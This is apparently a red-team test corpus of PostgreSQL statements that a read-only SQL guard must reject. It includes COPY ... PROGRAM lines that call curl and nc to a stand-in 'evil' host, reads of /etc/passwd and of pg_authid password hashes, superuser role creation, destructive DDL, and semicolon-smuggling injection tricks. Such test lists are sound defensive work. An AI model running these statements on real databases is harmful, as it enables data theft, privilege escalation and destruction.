-- Red-team corpus for the SQL guard: every statement below must be refused
-- (tests/executor/redteam_test.cpp; `build/medha check-sql < this file`).
-- One statement per line; lines starting with -- and blank lines are skipped.

-- writes
INSERT INTO orders VALUES (1)
INSERT INTO orders SELECT * FROM orders
INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING
insert into orders default values
UPDATE orders SET total = 0
UPDATE orders SET total = 0 WHERE id IN (SELECT id FROM orders)
update orders o set total = c.x from customers c where c.id = o.customer_id
DELETE FROM orders
DELETE FROM orders WHERE true RETURNING *
delete from only orders using customers where customers.id = orders.customer_id
MERGE INTO orders t USING customers s ON t.id = s.id WHEN MATCHED THEN DELETE
MERGE INTO orders t USING customers s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)
TRUNCATE orders
TRUNCATE TABLE orders, customers RESTART IDENTITY CASCADE
WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u
WITH i AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT 1
WITH a AS (SELECT 1), d AS (DELETE FROM orders RETURNING id) SELECT * FROM a
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) s
SELECT (WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d)
SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)
WITH RECURSIVE r AS (SELECT 1), x AS (UPDATE customers SET name = 'x' RETURNING 1) SELECT * FROM r
WITH m AS (MERGE INTO orders t USING customers s ON t.id = s.id WHEN MATCHED THEN DELETE) SELECT 1
SELECT nextval('orders_id_seq')
SELECT setval('orders_id_seq', 1)
SELECT pg_catalog.nextval('orders_id_seq')

-- DDL
CREATE TABLE x (id int)
CREATE TEMP TABLE x AS SELECT * FROM orders
CREATE UNLOGGED TABLE x (id int)
CREATE TABLE x AS SELECT 1
CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders
CREATE VIEW v AS SELECT * FROM orders
CREATE OR REPLACE VIEW v AS SELECT 1
CREATE INDEX ON orders (id)
CREATE INDEX CONCURRENTLY i ON orders (id)
CREATE SCHEMA s
CREATE SEQUENCE s
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS $$ SELECT pg_sleep(10)::text $$ LANGUAGE sql
CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$
CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
CREATE EXTENSION dblink
CREATE EXTENSION IF NOT EXISTS adminpack
CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'
CREATE USER evil
CREATE DATABASE evil
CREATE TYPE t AS ENUM ('a')
CREATE RULE r AS ON SELECT TO orders DO INSTEAD NOTHING
CREATE POLICY p ON orders USING (true)
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE FOREIGN TABLE f (id int) SERVER s
CREATE PUBLICATION p FOR ALL TABLES
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
ALTER TABLE orders ADD COLUMN y int
ALTER TABLE orders RENAME TO o2
ALTER TABLE orders OWNER TO evil
ALTER ROLE current_user SUPERUSER
ALTER USER postgres PASSWORD 'x'
ALTER DATABASE postgres SET statement_timeout = 0
ALTER SYSTEM SET statement_timeout = 0
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
DROP TABLE orders
DROP TABLE IF EXISTS orders CASCADE
DROP SCHEMA public CASCADE
DROP DATABASE postgres
DROP ROLE evil
DROP FUNCTION f()
DROP INDEX i
DROP VIEW v
COMMENT ON TABLE orders IS 'x'
GRANT ALL ON orders TO public
GRANT pg_read_server_files TO evil
REVOKE SELECT ON orders FROM public
SECURITY LABEL ON TABLE orders IS 'x'
REINDEX TABLE orders
CLUSTER orders USING orders_pkey
REFRESH MATERIALIZED VIEW mv
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public

-- COPY
COPY orders TO '/tmp/orders.csv'
COPY orders FROM '/etc/passwd'
COPY (SELECT * FROM orders) TO STDOUT
COPY (SELECT 1) TO PROGRAM 'id'
COPY orders FROM PROGRAM 'curl http://evil'
copy orders to stdout with (format csv)
COPY orders (id) FROM STDIN
COPY (SELECT * FROM pg_authid) TO '/tmp/x'
COPY pg_catalog.pg_authid TO STDOUT
COPY orders TO PROGRAM 'nc evil 80'

-- SELECT INTO
SELECT * INTO x FROM orders
SELECT 1 INTO new_table
SELECT * INTO TEMP t2 FROM orders
SELECT * INTO TEMPORARY TABLE t2 FROM orders
SELECT * INTO UNLOGGED t2 FROM orders
select id into table copy_of_orders from orders where total > 0
SELECT 1 AS a INTO t3 UNION SELECT 2
WITH x AS (SELECT 1) SELECT * INTO t4 FROM x
SELECT 1 UNION ALL (SELECT 2 INTO t6)
SELECT 1 EXCEPT SELECT 2 INTO t7

-- locking clauses
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR SHARE
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders FOR KEY SHARE
SELECT * FROM orders FOR UPDATE NOWAIT
SELECT * FROM orders FOR UPDATE SKIP LOCKED
SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o
SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
SELECT 1 UNION SELECT 2 FOR KEY SHARE
WITH l AS (SELECT * FROM orders FOR UPDATE) SELECT count(*) FROM l
SELECT * FROM orders WHERE id IN (SELECT id FROM orders FOR SHARE)
select * from orders limit 1 for update
(SELECT * FROM orders FOR UPDATE) UNION SELECT * FROM orders
SELECT * FROM orders UNION ALL (SELECT * FROM customers FOR SHARE)
SELECT 1 INTERSECT (SELECT 1 FROM orders FOR NO KEY UPDATE) EXCEPT SELECT 2

-- transaction control
BEGIN
BEGIN ISOLATION LEVEL SERIALIZABLE
START TRANSACTION
START TRANSACTION READ WRITE
COMMIT
END
ROLLBACK
ABORT
SAVEPOINT s
RELEASE SAVEPOINT s
ROLLBACK TO SAVEPOINT s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
SET TRANSACTION READ WRITE
SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- SET / RESET / SHOW / session
SET statement_timeout = 0
SET LOCAL statement_timeout = 0
SET SESSION statement_timeout TO 0
set search_path = pg_catalog, public
SET default_transaction_read_only = off
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET work_mem = '64GB'
SET TIME ZONE 'UTC'
RESET ALL
RESET statement_timeout
RESET ROLE
SHOW ALL
SHOW search_path
SHOW data_directory
DISCARD ALL
SELECT set_config('statement_timeout', '0', false)
SELECT set_config('default_transaction_read_only', 'off', true)
SELECT current_setting('data_directory')
SELECT current_setting('server_version')

-- utility statements
DO $$ BEGIN PERFORM pg_sleep(10); END $$
DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$
CALL do_things()
PREPARE p AS SELECT 1
PREPARE p AS DELETE FROM orders
EXECUTE p
DEALLOCATE ALL
LISTEN channel
NOTIFY channel, 'x'
UNLISTEN *
VACUUM orders
VACUUM FULL
ANALYZE orders
EXPLAIN SELECT 1
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders
LOAD 'plpgsql'
CHECKPOINT
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
DECLARE c CURSOR FOR SELECT * FROM orders
FETCH ALL FROM c
MOVE FORWARD ALL IN c
CLOSE c
VALUES (1) ; DELETE FROM orders
TABLE orders; TRUNCATE orders

-- dangerous functions in every spelling and place
SELECT pg_sleep(10)
SELECT PG_SLEEP(10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT "pg_catalog"."pg_sleep"(10)
SELECT CASE WHEN id > 0 THEN pg_sleep(10)::text END FROM orders
SELECT id FROM orders ORDER BY pg_sleep(10)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_sleep(10)) s)
SELECT pg_sleep_for('1 hour')
SELECT PG_SLEEP_FOR('1 hour')
SELECT "pg_sleep_for"('1 hour')
SELECT pg_catalog.pg_sleep_for('1 hour')
SELECT "pg_catalog"."pg_sleep_for"('1 hour')
SELECT CASE WHEN id > 0 THEN pg_sleep_for('1 hour')::text END FROM orders
SELECT id FROM orders ORDER BY pg_sleep_for('1 hour')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_sleep_for('1 hour')) s)
SELECT pg_read_file('/etc/passwd')
SELECT PG_READ_FILE('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT "pg_catalog"."pg_read_file"('/etc/passwd')
SELECT CASE WHEN id > 0 THEN pg_read_file('/etc/passwd')::text END FROM orders
SELECT id FROM orders ORDER BY pg_read_file('/etc/passwd')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_read_file('/etc/passwd')) s)
SELECT pg_read_binary_file('/etc/passwd')
SELECT PG_READ_BINARY_FILE('/etc/passwd')
SELECT "pg_read_binary_file"('/etc/passwd')
SELECT pg_catalog.pg_read_binary_file('/etc/passwd')
SELECT "pg_catalog"."pg_read_binary_file"('/etc/passwd')
SELECT CASE WHEN id > 0 THEN pg_read_binary_file('/etc/passwd')::text END FROM orders
SELECT id FROM orders ORDER BY pg_read_binary_file('/etc/passwd')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_read_binary_file('/etc/passwd')) s)
SELECT pg_ls_dir('.')
SELECT PG_LS_DIR('.')
SELECT "pg_ls_dir"('.')
SELECT pg_catalog.pg_ls_dir('.')
SELECT "pg_catalog"."pg_ls_dir"('.')
SELECT CASE WHEN id > 0 THEN pg_ls_dir('.')::text END FROM orders
SELECT id FROM orders ORDER BY pg_ls_dir('.')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_ls_dir('.')) s)
SELECT pg_stat_file('postgresql.conf')
SELECT PG_STAT_FILE('postgresql.conf')
SELECT "pg_stat_file"('postgresql.conf')
SELECT pg_catalog.pg_stat_file('postgresql.conf')
SELECT "pg_catalog"."pg_stat_file"('postgresql.conf')
SELECT CASE WHEN id > 0 THEN pg_stat_file('postgresql.conf')::text END FROM orders
SELECT id FROM orders ORDER BY pg_stat_file('postgresql.conf')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_stat_file('postgresql.conf')) s)
SELECT lo_import('/etc/passwd')
SELECT LO_IMPORT('/etc/passwd')
SELECT "lo_import"('/etc/passwd')
SELECT pg_catalog.lo_import('/etc/passwd')
SELECT "pg_catalog"."lo_import"('/etc/passwd')
SELECT CASE WHEN id > 0 THEN lo_import('/etc/passwd')::text END FROM orders
SELECT id FROM orders ORDER BY lo_import('/etc/passwd')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT lo_import('/etc/passwd')) s)
SELECT lo_export(1, '/tmp/x')
SELECT LO_EXPORT(1, '/tmp/x')
SELECT "lo_export"(1, '/tmp/x')
SELECT pg_catalog.lo_export(1, '/tmp/x')
SELECT "pg_catalog"."lo_export"(1, '/tmp/x')
SELECT CASE WHEN id > 0 THEN lo_export(1, '/tmp/x')::text END FROM orders
SELECT id FROM orders ORDER BY lo_export(1, '/tmp/x')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT lo_export(1, '/tmp/x')) s)
SELECT set_config('work_mem', '1GB', false)
SELECT SET_CONFIG('work_mem', '1GB', false)
SELECT "set_config"('work_mem', '1GB', false)
SELECT pg_catalog.set_config('work_mem', '1GB', false)
SELECT "pg_catalog"."set_config"('work_mem', '1GB', false)
SELECT CASE WHEN id > 0 THEN set_config('work_mem', '1GB', false)::text END FROM orders
SELECT id FROM orders ORDER BY set_config('work_mem', '1GB', false)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT set_config('work_mem', '1GB', false)) s)
SELECT current_setting('data_directory')
SELECT CURRENT_SETTING('data_directory')
SELECT "current_setting"('data_directory')
SELECT pg_catalog.current_setting('data_directory')
SELECT "pg_catalog"."current_setting"('data_directory')
SELECT CASE WHEN id > 0 THEN current_setting('data_directory')::text END FROM orders
SELECT id FROM orders ORDER BY current_setting('data_directory')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT current_setting('data_directory')) s)
SELECT version()
SELECT VERSION()
SELECT "version"()
SELECT pg_catalog.version()
SELECT "pg_catalog"."version"()
SELECT CASE WHEN id > 0 THEN version()::text END FROM orders
SELECT id FROM orders ORDER BY version()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT version()) s)
SELECT inet_server_addr()
SELECT INET_SERVER_ADDR()
SELECT "inet_server_addr"()
SELECT pg_catalog.inet_server_addr()
SELECT "pg_catalog"."inet_server_addr"()
SELECT CASE WHEN id > 0 THEN inet_server_addr()::text END FROM orders
SELECT id FROM orders ORDER BY inet_server_addr()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT inet_server_addr()) s)
SELECT inet_server_port()
SELECT INET_SERVER_PORT()
SELECT "inet_server_port"()
SELECT pg_catalog.inet_server_port()
SELECT "pg_catalog"."inet_server_port"()
SELECT CASE WHEN id > 0 THEN inet_server_port()::text END FROM orders
SELECT id FROM orders ORDER BY inet_server_port()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT inet_server_port()) s)
SELECT pg_terminate_backend(1)
SELECT PG_TERMINATE_BACKEND(1)
SELECT "pg_terminate_backend"(1)
SELECT pg_catalog.pg_terminate_backend(1)
SELECT "pg_catalog"."pg_terminate_backend"(1)
SELECT CASE WHEN id > 0 THEN pg_terminate_backend(1)::text END FROM orders
SELECT id FROM orders ORDER BY pg_terminate_backend(1)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_terminate_backend(1)) s)
SELECT pg_cancel_backend(1)
SELECT PG_CANCEL_BACKEND(1)
SELECT "pg_cancel_backend"(1)
SELECT pg_catalog.pg_cancel_backend(1)
SELECT "pg_catalog"."pg_cancel_backend"(1)
SELECT CASE WHEN id > 0 THEN pg_cancel_backend(1)::text END FROM orders
SELECT id FROM orders ORDER BY pg_cancel_backend(1)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_cancel_backend(1)) s)
SELECT pg_advisory_lock(1)
SELECT PG_ADVISORY_LOCK(1)
SELECT "pg_advisory_lock"(1)
SELECT pg_catalog.pg_advisory_lock(1)
SELECT "pg_catalog"."pg_advisory_lock"(1)
SELECT CASE WHEN id > 0 THEN pg_advisory_lock(1)::text END FROM orders
SELECT id FROM orders ORDER BY pg_advisory_lock(1)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_advisory_lock(1)) s)
SELECT txid_current()
SELECT TXID_CURRENT()
SELECT "txid_current"()
SELECT pg_catalog.txid_current()
SELECT "pg_catalog"."txid_current"()
SELECT CASE WHEN id > 0 THEN txid_current()::text END FROM orders
SELECT id FROM orders ORDER BY txid_current()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT txid_current()) s)
SELECT pg_reload_conf()
SELECT PG_RELOAD_CONF()
SELECT "pg_reload_conf"()
SELECT pg_catalog.pg_reload_conf()
SELECT "pg_catalog"."pg_reload_conf"()
SELECT CASE WHEN id > 0 THEN pg_reload_conf()::text END FROM orders
SELECT id FROM orders ORDER BY pg_reload_conf()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_reload_conf()) s)
SELECT current_database()
SELECT CURRENT_DATABASE()
SELECT "current_database"()
SELECT pg_catalog.current_database()
SELECT "pg_catalog"."current_database"()
SELECT CASE WHEN id > 0 THEN current_database()::text END FROM orders
SELECT id FROM orders ORDER BY current_database()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT current_database()) s)
SELECT pg_backend_pid()
SELECT PG_BACKEND_PID()
SELECT "pg_backend_pid"()
SELECT pg_catalog.pg_backend_pid()
SELECT "pg_catalog"."pg_backend_pid"()
SELECT CASE WHEN id > 0 THEN pg_backend_pid()::text END FROM orders
SELECT id FROM orders ORDER BY pg_backend_pid()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_backend_pid()) s)
SELECT pg_postmaster_start_time()
SELECT PG_POSTMASTER_START_TIME()
SELECT "pg_postmaster_start_time"()
SELECT pg_catalog.pg_postmaster_start_time()
SELECT "pg_catalog"."pg_postmaster_start_time"()
SELECT CASE WHEN id > 0 THEN pg_postmaster_start_time()::text END FROM orders
SELECT id FROM orders ORDER BY pg_postmaster_start_time()
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_postmaster_start_time()) s)
SELECT pg_size_pretty(pg_database_size('postgres'))
SELECT PG_SIZE_PRETTY(pg_database_size('postgres'))
SELECT "pg_size_pretty"(pg_database_size('postgres'))
SELECT pg_catalog.pg_size_pretty(pg_database_size('postgres'))
SELECT "pg_catalog"."pg_size_pretty"(pg_database_size('postgres'))
SELECT CASE WHEN id > 0 THEN pg_size_pretty(pg_database_size('postgres'))::text END FROM orders
SELECT id FROM orders ORDER BY pg_size_pretty(pg_database_size('postgres'))
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_size_pretty(pg_database_size('postgres'))) s)
SELECT has_table_privilege('pg_authid', 'select')
SELECT HAS_TABLE_PRIVILEGE('pg_authid', 'select')
SELECT "has_table_privilege"('pg_authid', 'select')
SELECT pg_catalog.has_table_privilege('pg_authid', 'select')
SELECT "pg_catalog"."has_table_privilege"('pg_authid', 'select')
SELECT CASE WHEN id > 0 THEN has_table_privilege('pg_authid', 'select')::text END FROM orders
SELECT id FROM orders ORDER BY has_table_privilege('pg_authid', 'select')
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT has_table_privilege('pg_authid', 'select')) s)
SELECT pg_get_functiondef(1)
SELECT PG_GET_FUNCTIONDEF(1)
SELECT "pg_get_functiondef"(1)
SELECT pg_catalog.pg_get_functiondef(1)
SELECT "pg_catalog"."pg_get_functiondef"(1)
SELECT CASE WHEN id > 0 THEN pg_get_functiondef(1)::text END FROM orders
SELECT id FROM orders ORDER BY pg_get_functiondef(1)
SELECT * FROM orders WHERE id IN (SELECT 1 FROM (SELECT pg_get_functiondef(1)) s)
SELECT * FROM pg_sleep(10)
SELECT * FROM pg_catalog.pg_sleep(10) AS s
SELECT * FROM orders, LATERAL (SELECT pg_sleep(1)) x
SELECT * FROM orders CROSS JOIN LATERAL pg_sleep(1)
SELECT * FROM orders o LEFT JOIN LATERAL (SELECT pg_read_file('/etc/passwd') AS f) x ON true
SELECT * FROM ROWS FROM (generate_series(1, 3), pg_ls_dir('.')) AS t(a, b)
WITH s AS (SELECT pg_sleep(10)) SELECT * FROM s
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE pg_sleep(1) IS NOT NULL) SELECT * FROM r
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
SELECT sum(id) OVER (ORDER BY pg_sleep(0.1)) FROM orders
SELECT customer_id FROM orders GROUP BY customer_id HAVING max(pg_sleep(1)::text) IS NULL
SELECT customer_id FROM orders GROUP BY customer_id, pg_sleep(1)
SELECT coalesce(NULL, pg_sleep(1))
SELECT greatest(1, length(pg_read_file('/etc/passwd')))
SELECT nullif(version(), '')
SELECT EXISTS (SELECT pg_sleep(1))
SELECT 1 WHERE 1 = ANY (SELECT length(current_setting('data_directory')))
SELECT ARRAY[pg_sleep(1)]
SELECT (pg_stat_file('postgresql.conf')).size
SELECT lower(version())
SELECT upper(pg_catalog.current_setting('port'))
SELECT string_agg(pg_read_file(name), ',') FROM orders
VALUES (pg_sleep(1))
SELECT 1 UNION SELECT length(inet_server_addr()::text)
SELECT CAST(pg_sleep(1) AS text)
SELECT * FROM orders LIMIT (SELECT length(version()))
SELECT * FROM orders OFFSET pg_backend_pid()
SELECT * FROM orders WHERE name = current_user
SELECT session_user
SELECT current_schema
SELECT current_catalog
SELECT user
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('dbname=postgres', 'SELECT rolpassword FROM pg_authid') AS t(p text)
SELECT public.dblink_exec('DROP TABLE orders')
SELECT dblink_connect('c', 'dbname=postgres')
SELECT "DBLINK"('x', 'SELECT 1')
SELECT postgres_fdw_disconnect_all()
SELECT pg_logical_emit_message(true, 'x', 'y')
SELECT pg_create_restore_point('x')
SELECT pg_switch_wal()
SELECT pg_promote()
SELECT pg_notify('c', 'x')
SELECT pg_try_advisory_xact_lock(1)
SELECT pg_stat_reset()
SELECT pg_ls_waldir()
SELECT pg_ls_logdir()
SELECT pg_current_logfile()
SELECT lo_unlink(1)
SELECT loread(lo_open(1, 262144), 100)
SELECT lo_get(1)
SELECT pg_read_file('postgresql.auto.conf', 0, 100000)
SELECT public.lower('x')
SELECT evil.f()
SELECT f()
SELECT my_udf(id) FROM orders
SELECT "Lower"('x')
SELECT pg_catalog.pg_get_userbyid(10)
SELECT obj_description('orders'::regclass)
SELECT pg_relation_size('orders')
SELECT to_regclass('pg_authid')
SELECT row_security_active('orders')
SELECT txid_current_snapshot()
SELECT pg_current_xact_id()
SELECT inet_client_addr()
SELECT pg_conf_load_time()
SELECT pg_is_in_recovery()
SELECT pg_my_temp_schema()
SELECT format('%s', current_setting('port'))
SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')
SELECT xpath('/a', query_to_xml('select 1', true, true, '')::xml)
SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS x int)
SELECT xmlparse(document '<a/>')
SELECT xmlelement(name a, version())

-- functions that run SQL given as text
SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')
SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')
SELECT QUERY_TO_XML('select 1', true, true, '')
SELECT pg_catalog.query_to_xml('select 1', true, true, '')
SELECT "query_to_xml"('select 1', true, true, '')
SELECT query_to_xml_and_xmlschema('select 1', true, true, '')
SELECT query_to_xmlschema('select 1', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT table_to_xml('pg_authid', true, true, '')
SELECT schema_to_xml('pg_catalog', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT * FROM ts_stat('SELECT to_tsvector(rolpassword) FROM pg_authid')
SELECT ts_stat('SELECT to_tsvector(''x'')')
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
SELECT * FROM ts_rewrite(to_tsquery('a'), 'SELECT pg_sleep(10)')
SELECT length(query_to_xml('SELECT pg_sleep(10)', true, true, '')::text)
SELECT CASE WHEN true THEN query_to_xml('select 1', true, true, '') END
SELECT id FROM orders ORDER BY query_to_xml('select 1', true, true, '')::text
SELECT * FROM orders WHERE id IN (SELECT length(ts_stat('select 1')::text))
SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')

-- catalog and statistics reads
SELECT * FROM pg_class
SELECT * FROM pg_catalog.pg_class
SELECT * FROM pg_authid
SELECT * FROM pg_catalog.pg_authid
SELECT * FROM pg_roles
SELECT * FROM pg_catalog.pg_roles
SELECT * FROM pg_user
SELECT * FROM pg_catalog.pg_user
SELECT * FROM pg_shadow
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM pg_stat_activity
SELECT * FROM pg_catalog.pg_stat_activity
SELECT * FROM pg_stat_statements
SELECT * FROM pg_catalog.pg_stat_statements
SELECT * FROM pg_settings
SELECT * FROM pg_catalog.pg_settings
SELECT * FROM pg_file_settings
SELECT * FROM pg_catalog.pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_catalog.pg_hba_file_rules
SELECT * FROM pg_stat_user_tables
SELECT * FROM pg_catalog.pg_stat_user_tables
SELECT * FROM pg_locks
SELECT * FROM pg_catalog.pg_locks
SELECT * FROM pg_proc
SELECT * FROM pg_catalog.pg_proc
SELECT * FROM pg_database
SELECT * FROM pg_catalog.pg_database
SELECT * FROM pg_namespace
SELECT * FROM pg_catalog.pg_namespace
SELECT * FROM pg_attribute
SELECT * FROM pg_catalog.pg_attribute
SELECT * FROM pg_stats
SELECT * FROM pg_catalog.pg_stats
SELECT * FROM pg_statistic
SELECT * FROM pg_catalog.pg_statistic
SELECT * FROM pg_stat_ssl
SELECT * FROM pg_catalog.pg_stat_ssl
SELECT * FROM pg_replication_slots
SELECT * FROM pg_catalog.pg_replication_slots
SELECT * FROM pg_largeobject
SELECT * FROM pg_catalog.pg_largeobject
SELECT * FROM pg_available_extensions
SELECT * FROM pg_catalog.pg_available_extensions
SELECT * FROM pg_tables
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM pg_views
SELECT * FROM pg_catalog.pg_views
SELECT * FROM pg_indexes
SELECT * FROM pg_catalog.pg_indexes
SELECT * FROM "pg_catalog"."pg_class"
SELECT * FROM "pg_class"
SELECT * FROM PG_CATALOG.PG_CLASS
SELECT * FROM Pg_Stat_Activity
SELECT query FROM pg_stat_activity WHERE pid <> 0
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns
SELECT * FROM INFORMATION_SCHEMA.TABLES
SELECT * FROM "information_schema"."role_table_grants"
SELECT * FROM information_schema.routines
SELECT * FROM pg_toast.pg_toast_2619
SELECT * FROM pg_temp.t
SELECT * FROM postgres.public.orders
SELECT * FROM orders o JOIN pg_class c ON c.oid = o.id
SELECT * FROM orders WHERE id IN (SELECT oid FROM pg_proc)
SELECT (SELECT count(*) FROM pg_stat_activity)
SELECT EXISTS (SELECT 1 FROM pg_authid WHERE rolsuper)
WITH c AS (SELECT * FROM pg_class) SELECT * FROM c
SELECT * FROM (SELECT * FROM information_schema.tables) t
SELECT * FROM orders, LATERAL (SELECT * FROM pg_settings LIMIT 1) s
SELECT 1 UNION SELECT count(*) FROM pg_user
TABLE pg_authid
TABLE pg_catalog.pg_settings
SELECT * FROM ONLY pg_class
SELECT * FROM (WITH pg_class AS (SELECT 1) SELECT * FROM pg_class) a, pg_class
SELECT 'pg_authid'::regclass
SELECT 'lower'::regproc
SELECT 'postgres'::regrole
SELECT 'public'::regnamespace
SELECT 'int4'::regtype
SELECT 1::oid
SELECT CAST('pg_class' AS regclass)
SELECT '0/0'::pg_lsn
SELECT id::mood FROM orders
SELECT '1'::evil.type
SELECT * FROM orders TABLESAMPLE SYSTEM (10)
(WITH c AS (SELECT 1) SELECT * FROM pg_class) UNION SELECT 1
SELECT 1 UNION (SELECT count(*) FROM information_schema.schemata)
SELECT * FROM orders JOIN pg_roles ON true
SELECT * FROM orders NATURAL JOIN pg_catalog.pg_user
SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM pg_stat_activity a WHERE a.query LIKE '%')

-- resource attacks
SELECT * FROM generate_series(1, 100000000)
SELECT count(*) FROM generate_series(1, 1e12)
SELECT generate_series(1, 2000000)
SELECT * FROM generate_series(-1000000000, 1000000000)
SELECT * FROM generate_series(0, 100000000, 2)
SELECT * FROM generate_series(1, 10000000000::bigint)
SELECT * FROM generate_series('2000-01-01'::timestamp, '2030-01-01', '1 second')
SELECT * FROM generate_series('2000-01-01'::timestamptz, '2100-01-01'::timestamptz, interval '1 minute')
SELECT repeat('x', 1000000000)
SELECT length(repeat('abc', 2147483647))
SELECT lpad('x', 1000000000)
SELECT rpad('', 2000000000, 'y')
SELECT * FROM orders, generate_series(1, 50000000) g
WITH s AS (SELECT generate_series(1, 1e9) g) SELECT count(*) FROM s

-- multi-statement tricks
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2
SELECT 1;DELETE FROM orders
SELECT 1 /* harmless */; DELETE FROM orders
SELECT 1 /* ; */ ; UPDATE orders SET total = 0
/* SELECT 1; */ DELETE FROM orders
SELECT $$;$$; DELETE FROM orders
SELECT $tag$ ; DROP TABLE x; $tag$; TRUNCATE orders
SELECT 'a'';'; DELETE FROM orders
SELECT E'\';'; DELETE FROM orders
SELECT ";" FROM orders; DROP TABLE orders
SELECT 1;; DELETE FROM orders
SELECT 1; COMMIT; DELETE FROM orders
SELECT 1; BEGIN; DELETE FROM orders; COMMIT
SELECT 1; SET statement_timeout = 0; SELECT pg_sleep(100)
SELECT 1; RESET ALL
SELECT 1 /* nested /* comment */ ; */; DROP TABLE orders
SELECT $a$ $b$ ; $b$ $a$; DROP TABLE orders
WITH x AS (SELECT 1) SELECT * FROM x; DELETE FROM orders
SELECT 1 UNION SELECT 2; CREATE TABLE t (x int)
select 1; copy orders to '/tmp/x'
SELECT 1; DO $$ BEGIN DELETE FROM orders; END $$
SELECT 1; SELECT pg_sleep(10)
DELETE FROM orders; SELECT 1
SELECT U&'\003B'; DROP TABLE orders

